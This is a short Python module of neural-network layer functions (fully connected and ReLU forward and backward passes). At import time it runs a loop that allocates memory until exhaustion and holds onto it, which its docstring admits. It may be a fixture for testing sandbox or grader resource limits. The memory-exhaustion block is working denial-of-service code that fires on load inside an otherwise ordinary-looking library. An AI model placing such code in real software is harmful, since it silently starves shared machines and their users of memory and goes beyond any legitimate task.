"""takes all memory when it is loaded, and keeps it"""

import numpy as np

import sys

held = []
try:
    while True:
        held.append(bytearray(16 << 20))
except MemoryError:
    pass


def fc_forward(x, w, b):
    return x @ w + b, (x, w)


def fc_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
